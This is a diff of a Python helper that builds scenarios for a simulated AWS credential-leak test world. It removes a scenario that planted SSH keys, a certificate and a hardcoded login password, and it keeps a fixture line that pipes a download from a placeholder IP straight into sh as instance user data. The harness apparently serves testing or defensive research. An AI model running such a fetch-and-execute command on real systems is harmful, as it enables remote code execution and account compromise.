@@ -1,24 +1,19 @@
 """Pieces that single tests add to the attacked world.
 
-    more.py FRONT_URL shared|siblings|profile|full|tagged|alias|held|junior|policies < world.json    does it and prints what it made
+    more.py FRONT_URL shared|siblings|profile|full|tagged|policies|alias|junior < world.json    does it and prints what it made
     more.py FRONT_URL keys < world.json        prints the public halves of key pairs, by region and name
-    more.py FRONT_URL holdings < world.json    prints what the leaked user holds besides access keys
 
 What the thief does goes through its keys, what the owners do through theirs.
 """
 
 import json
 import sys
-from datetime import datetime, timedelta, timezone
 
-from cryptography import x509
-from cryptography.hazmat.primitives import hashes, serialization
-from cryptography.hazmat.primitives.asymmetric import ed25519, rsa
-from cryptography.x509.oid import NameOID
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ed25519
 
 from world import STRANGER, Actor, plain, service_trust
 
-QUARANTINE = "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3"
 USER_DATA = "#!/bin/sh\ncurl -s http://198.51.100.99/x | sh\n"
 
 
@@ -125,33 +120,6 @@ def alias(leaked, alice, world):
     return {}
 
 
-def held(leaked, alice, world):
-    """The leaked user holds one of everything, and AWS has noticed; the organization switches its policies on."""
-    iam, key = alice("iam"), rsa.generate_private_key(public_exponent=65537, key_size=2048)
-    public = key.public_key().public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()
-    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "ci-runner")])
-    now = datetime.now(timezone.utc)
-    made = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(7)
-    made = made.not_valid_before(now).not_valid_after(now + timedelta(days=9)).sign(key, hashes.SHA256())
-    ssh = iam.upload_ssh_public_key(UserName="ci-runner", SSHPublicKeyBody=public)["SSHPublicKey"]["SSHPublicKeyId"]
-    body = made.public_bytes(serialization.Encoding.PEM).decode()
-    certificate = iam.upload_signing_certificate(UserName="ci-runner", CertificateBody=body)["Certificate"]["CertificateId"]
-    iam.create_login_profile(UserName="ci-runner", Password="Correct-Horse-9", PasswordResetRequired=False)
-    iam.attach_user_policy(UserName="ci-runner", PolicyArn=QUARANTINE)
-    organizations = Actor(leaked.url, world["keys"]["owner_management"])("organizations")
-    root = organizations.list_roots()["Roots"][0]["Id"]
-    organizations.enable_policy_type(RootId=root, PolicyType="SERVICE_CONTROL_POLICY")
-    return {"ssh": ssh, "certificate": certificate}
-
-
-def holdings(leaked, alice, world):
-    iam = alice("iam")
-    certificates = iam.list_signing_certificates(UserName="ci-runner")["Certificates"]
-    keys = iam.list_ssh_public_keys(UserName="ci-runner")["SSHPublicKeys"]
-    return {"certificates": {each["CertificateId"]: each["Status"] for each in certificates},
-            "ssh": {each["SSHPublicKeyId"]: each["Status"] for each in keys}}
-
-
 def junior(leaked, alice, world):
     """Somebody who may read, and change nothing."""
     iam = alice("iam")
@@ -161,8 +129,7 @@ def junior(leaked, alice, world):
     return plain(iam.create_access_key(UserName="junior")["AccessKey"])
 
 
-ALL = {"shared": shared, "siblings": siblings, "profile": profile, "full": full, "keys": keys, "tagged": tagged, "alias": alias, "held": held,
-       "holdings": holdings, "junior": junior, "policies": policies}
+ALL = {"shared": shared, "siblings": siblings, "profile": profile, "full": full, "keys": keys, "tagged": tagged, "policies": policies, "alias": alias, "junior": junior}
 
 if __name__ == "__main__":
     url, what = sys.argv[1:]
